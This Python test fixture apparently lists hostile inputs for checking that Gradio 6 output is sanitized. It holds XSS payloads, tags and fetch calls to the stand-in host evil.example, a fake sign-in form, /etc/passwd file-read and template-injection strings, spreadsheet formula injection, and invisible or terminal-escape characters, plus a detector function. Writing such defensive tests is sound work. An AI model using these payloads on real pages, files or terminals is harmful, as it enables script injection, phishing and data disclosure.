"""Text that Gradio 6 would act on if it reached the page as it is, and what must not come of it."""

import unicodedata

PAYLOADS = (
    "<script>fetch('http://evil.example/a')</script>",
    "<img src=http://evil.example/b>",
    "<img src=x onerror=\"fetch('http://evil.example/c')\">",
    "![picture](http://evil.example/d.png)",
    "[click me](javascript:alert(1))",
    "<video poster=http://evil.example/e src=http://evil.example/f autoplay></video>",
    "<audio src=http://evil.example/g autoplay></audio>",
    "<picture><source srcset=http://evil.example/h><img src=x></picture>",
    "<b style=\"background:url('http://evil.example/i')\">x</b>",
    "<div style='position:fixed;inset:0;background:red'>overlay</div>",
    "<form action=http://evil.example/j><input name=a><button>Sign in</button></form>",
    "see http://evil.example/k or www.evil.example or me@evil.example",
    "<svg onload=alert(1)><circle r=9></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=http://evil.example/m></image><use href=http://evil.example/n#x></use></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=http://evil.example/o srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=http://evil.example/p></object><embed src=http://evil.example/q>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/r'>",
    "<base href=http://evil.example/s/>",
    "<link rel=stylesheet href=http://evil.example/t.css>",
    "<style>#send,main{display:none}@import url(http://evil.example/u.css)</style>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)> <http://evil.example/v>",
    "![x][y] [y]: http://evil.example/w.png",
    '```mermaid graph TD; A-->B; click A href "http://evil.example/x" ```',
    r"$\includegraphics{http://evil.example/y}$ \(x\) \[y\]",
    "{{7*7}} ${7*7} #{7*7} {% include '/etc/passwd' %} <%= 7*7 %>",
    "![f](/gradio_api/file=/etc/passwd) <img src=/gradio_api/file=/etc/passwd>",
    '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}',
    "--></textarea></title></script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    '=HYPERLINK("http://evil.example/z","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
    "<button formaction=javascript:alert(1)>x</button><select autofocus onfocus=alert(1)></select>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "<dialog open style='position:fixed;inset:0'>x</dialog><marquee onstart=alert(1)>x</marquee>",
    "$$\\href{http://evil.example/l}{x}$$ `code` ~~~ # * _a_ **b** | c | --- &lt;b&gt; &#60;",
)

UNSEEN = (
    "Safe \u202egnp.exe\u2066\u2069",
    "in\u200bvis\u2060ible\ufeff \U000e0049\U000e0067",
    "one\u2028two\u2029three\x85four",
    "\x1b[2J\x1b[1;31mred\x1b[0m",
    "\x1b]8;;http://evil.example/1\x07a link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07 and \x9b31m",
    "back\x08\x08\x08\x08space, \x07bell and \x7f",
    "Done.\nBuild 000000000000 is live.\r\tReally",
)
"""What cannot be seen, and turns, hides or steers what can."""


def unseen(text: str) -> set[str]:
    """The characters of a text that no terminal and no page may be given, its line ends apart."""
    return {
        sign
        for sign in text.replace("\n", "")
        if unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp") and sign not in "\u200c\u200d"
    }
